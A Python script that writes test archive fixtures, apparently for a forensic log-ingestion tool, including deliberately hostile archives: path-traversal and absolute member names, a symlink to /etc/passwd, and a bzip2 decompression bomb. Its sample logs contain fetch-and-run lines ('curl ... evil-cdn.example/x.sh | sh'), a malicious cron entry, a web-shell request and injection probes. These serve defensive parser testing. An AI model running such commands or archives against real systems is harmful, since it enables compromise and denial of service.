#!/usr/bin/env python3
"""Writes the archive fixtures under fixtures/archives/ (committed; rebuild with `make fixtures`).
Seized data arrives as tarballs of /var/log, zips of web logs, 7z exports and archives inside
archives; these small files reproduce each shape plus the hostile ones (traversal names,
symlinks, encryption, truncation, a decompression bomb). Deterministic where the formats allow:
fixed mtimes, gzip headers without names or times. 7z and the encrypted zip are written with
bsdtar (Debian package libarchive-tools), .zst with the zstd tool; both are only needed to
regenerate, never to test."""
import bz2
import gzip
import io
import lzma
import os
import shutil
import subprocess
import tarfile
import tempfile
import zipfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "archives")
T0 = 1767441600  # 2026-01-03T12:00:00Z, member mtimes for year inference


def gz(data):
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as g:
        g.write(data)
    return buf.getvalue()


def zst(data):
    return subprocess.run(["zstd", "-q", "-19", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


def log(lines):
    return "".join(l + "\n" for l in lines).encode()


def tar_add(tf, name, data=None, mtime=T0, kind="file", target=None):
    ti = tarfile.TarInfo(name)
    ti.mtime = mtime
    ti.uid = ti.gid = 0
    ti.uname = ti.gname = "root"
    if kind == "file":
        ti.size = len(data)
        ti.mode = 0o640
        tf.addfile(ti, io.BytesIO(data))
    elif kind == "dir":
        ti.type = tarfile.DIRTYPE
        ti.mode = 0o755
        tf.addfile(ti)
    elif kind == "symlink":
        ti.type = tarfile.SYMTYPE
        ti.linkname = target
        tf.addfile(ti)
    elif kind == "hardlink":
        ti.type = tarfile.LNKTYPE
        ti.linkname = target
        tf.addfile(ti)


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2026, 1, 3, 12, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def main():
    shutil.rmtree(ROOT, ignore_errors=True)
    os.makedirs(ROOT)

    auth = log([
        "Jan  3 11:59:58 web1 sshd[811]: Connection from 203.0.113.5 port 4242",
        "Jan  3 12:00:01 web1 sshd[811]: Failed password for root from 203.0.113.5 port 4242 ssh2 NEEDLE-101#",
        "Jan  3 12:09:47 web1 sshd[900]: Accepted password for deploy from 203.0.113.5 port 5555 ssh2",
    ])
    auth1 = log([
        "Jan  2 08:00:00 web1 CRON[100]: pam_unix(cron:session): session opened for user root",
        "Jan  2 08:00:05 web1 sshd[700]: Failed password for admin from 203.0.113.5 port 1 ssh2 NEEDLE-102#",
    ])
    syslog2 = log(["Jan  1 10:00:00 web1 kernel: [  1.0] boot", "Jan  1 10:00:01 web1 app: beacon 198.51.100.23 NEEDLE-103#"])
    kern3 = log(["Dec 31 23:59:59 web1 kernel: x", "Jan  1 00:00:00 web1 kernel: NEEDLE-104# new year"])
    app4 = log(["2026-01-03T12:41:06Z app: curl -s http://update.evil-cdn.example/x.sh | sh NEEDLE-105#"])
    access = log(['203.0.113.5 - - [03/Jan/2026:12:31:55 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 5 "-" "curl" NEEDLE-106#'])
    inner_zip = zip_bytes([
        ("weblogs/access.log", log(['198.51.100.7 - - [02/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"',
                                     '203.0.113.5 - - [02/Jan/2026:09:00:01 +0000] "GET /?id=1 UNION SELECT 1 HTTP/1.1" 200 1 "-" "sqlmap" NEEDLE-107#'])),
        ("weblogs/error.log.1.gz", gz(log(["2026/01/02 09:00:02 [error] 1#1: NEEDLE-108# upstream failed"]))),
    ])
    ip_list = log(["198.51.100.23", "203.0.113.5", "192.0.2.10 NEEDLE-109#"])
    history = log(["ls -la", "history -c", "curl -s http://update.evil-cdn.example/x.sh|sh NEEDLE-110#"])
    evtx = b"ElfFile\x00" + bytes(range(256)) * 16

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        tar_add(tf, "var/log", kind="dir")
        tar_add(tf, "var/log/auth.log", auth, mtime=T0 + 3600)
        tar_add(tf, "var/log/auth.log.1.gz", gz(auth1), mtime=T0 - 86400)
        tar_add(tf, "var/log/syslog.2.bz2", bz2.compress(syslog2, 9), mtime=T0 - 2 * 86400)
        tar_add(tf, "var/log/kern.log.3.xz", lzma.compress(kern3), mtime=T0 - 3 * 86400)
        tar_add(tf, "var/log/app.log.4.zst", zst(app4), mtime=T0)
        tar_add(tf, "var/log/nginx/access.log", access, mtime=T0 + 3600)
        tar_add(tf, "var/log/ip-list.txt", ip_list)
        tar_add(tf, "home/deploy/.bash_history", history)
        tar_add(tf, "var/log/Security.evtx", evtx)
        tar_add(tf, "backup/old-logs.zip", inner_zip, mtime=T0 - 86400)
        tar_add(tf, "etc/passwd-link", kind="symlink", target="/etc/passwd")
        tar_add(tf, "var/log/auth.log.hard", kind="hardlink", target="var/log/auth.log")
        tar_add(tf, "../../../../tmp/timberline-traversal.log", log(["2026-01-03T12:00:00Z NEEDLE-111# traversal"]))
        tar_add(tf, "/etc/cron.d/evil", log(["* * * * * root curl http://x | sh NEEDLE-112#"]))
        tar_add(tf, "var/log/ctl\x01name\x7f.log", log(["2026-01-03T12:00:00Z NEEDLE-113# control name"]))
        tar_add(tf, "var/log/empty.log", b"")
    tarball = buf.getvalue()
    with open(os.path.join(ROOT, "web1-varlog.tar.gz"), "wb") as f:
        f.write(gz(tarball))

    # Truncated tar.gz: the first members survive, the rest is gone.
    trunc = gz(tarball)
    with open(os.path.join(ROOT, "truncated.tar.gz"), "wb") as f:
        f.write(trunc[: len(trunc) * 2 // 5])

    # A zip of web logs, and the same zip cut short (no central directory).
    weblogs = zip_bytes([("access.log", access), ("access.log.1", log(['203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 400 0 "-" "nikto" NEEDLE-114#']))])
    with open(os.path.join(ROOT, "weblogs.zip"), "wb") as f:
        f.write(weblogs)
    with open(os.path.join(ROOT, "truncated.zip"), "wb") as f:
        f.write(weblogs[: len(weblogs) - 60])

    # 7z and an encrypted zip, written by bsdtar.
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "export")
        os.makedirs(src)
        with open(os.path.join(src, "system.log"), "wb") as f:
            f.write(log(["2026-01-03T13:00:00Z export: NEEDLE-115# from the 7z export"]))
        os.utime(os.path.join(src, "system.log"), (T0, T0))
        subprocess.run(["bsdtar", "--format", "7zip", "-cf", os.path.join(ROOT, "export.7z"), "-C", d, "export"], check=True)
        with open(os.path.join(src, "secret.log"), "wb") as f:
            f.write(log(["2026-01-03T13:00:00Z NEEDLE-116# must not be readable without a password"]))
        subprocess.run(["bsdtar", "--format", "zip", "--options", "zip:encryption=zipcrypt",
                        "--passphrase", "infected", "-cf", os.path.join(ROOT, "encrypted.zip"),
                        "-C", src, "secret.log"], check=True)

    # A bzip2 bomb: 400 concatenated streams of 256 MiB of log-like text each (100 GiB) in
    # well under 1 MB. (Zeros would be read as an empty tar, which is not the point here.)
    one = bz2.compress(b"A" * 99 + b"\n" * 1 + (b"A" * 99 + b"\n") * ((256 << 20) // 100 - 1), 9)
    with open(os.path.join(ROOT, "bomb.log.bz2"), "wb") as f:
        f.write(one * 400)

    # An empty tar (end-of-archive blocks only).
    ebuf = io.BytesIO()
    with tarfile.open(fileobj=ebuf, mode="w", format=tarfile.USTAR_FORMAT):
        pass
    with open(os.path.join(ROOT, "empty.tar"), "wb") as f:
        f.write(ebuf.getvalue())

    # A single compressed log, as rotation leaves them.
    with open(os.path.join(ROOT, "syslog.7.xz"), "wb") as f:
        f.write(lzma.compress(log(["Jan  3 12:45:04 web1 kworkerd[4242]: [+] connecting to 198.51.100.23:443 NEEDLE-117#"])))
    os.utime(os.path.join(ROOT, "syslog.7.xz"), (T0 + 7200, T0 + 7200))

    for name in sorted(os.listdir(ROOT)):
        print("%8d  fixtures/archives/%s" % (os.path.getsize(os.path.join(ROOT, name)), name))


if __name__ == "__main__":
    main()
